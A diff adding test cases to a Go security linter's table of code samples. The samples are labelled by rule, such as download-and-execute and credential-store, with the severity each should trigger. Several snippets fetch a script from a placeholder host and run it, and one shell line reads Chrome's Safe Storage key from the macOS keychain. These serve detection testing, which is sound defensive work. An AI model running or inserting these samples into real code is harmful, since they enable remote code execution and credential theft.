@@ -255,6 +255,10 @@ var codeCases = []lintCase{
 	{"run.py", "download-exec", "import os, subprocess, urllib.request\ndef runner():\n    p = os.path.join(os.environ.get('TMPDIR', '/tmp'), 'r')\n    urllib.request.urlretrieve('https://dl.example/r', p)\n    return p\ndef main():\n    subprocess.run([runner(), '--x'])\n", "warning", 7},
 	{"run.py", "download-exec", "import os, sys, urllib.request\np = os.path.join(sys.argv[1], 'log.txt')\nurllib.request.urlretrieve('https://dl.example/log.txt', p)\nos.system('cat ' + p)\n", "", 0},
 	{"run.py", "download-exec", "import os, sys, urllib.request\np = os.path.join(sys.argv[1], 'run')\nurllib.request.urlretrieve('https://dl.example/run', p)\nos.chmod(p, 0o755)\nos.system(p)\n", "warning", 5},
+	// a function that writes a download returns where; one that runs its parameter runs it
+	{"stage.py", "download-exec", "import os, subprocess, tempfile, urllib.request\ndef stage(url):\n    fd, path = tempfile.mkstemp(suffix='.sh')\n    with os.fdopen(fd, 'wb') as out:\n        out.write(urllib.request.urlopen(url).read())\n    return path\ndef apply(path):\n    subprocess.run(['/bin/sh', path], check=True)\napply(stage('https://dl.example/s'))\n", "warning", 9},
+	{"stage.py", "download-exec", "import subprocess, urllib.request\ndef cache(u):\n    p = 'c.json'\n    urllib.request.urlretrieve(u, p)\n    return p\ndef show(p):\n    subprocess.run(['jq', '.', p])\nshow(cache('https://x.example/d.json'))\n", "", 0},
+	{"stage.py", "download-exec", "import json, urllib.request\ndef load(u):\n    data = urllib.request.urlopen(u).read()\n    with open('cache.json', 'wb') as fh:\n        fh.write(data)\n    return json.loads(data)\nprint(load('https://x.example/c.json')['name'])\n", "", 0},
 	{"run.py", "download-exec", "import subprocess, urllib.request\ndef fetch_db():\n    p = 'chinook.db'\n    urllib.request.urlretrieve('https://dl.example/c.db', p)\n    return p\nsubprocess.run(['sqlite3', fetch_db(), '.tables'])\n", "", 0},
 	// credential-store
 	{"x.sh", "credential-store", "security find-generic-password -s 'Chrome Safe Storage' -w\n", "warning", 1},
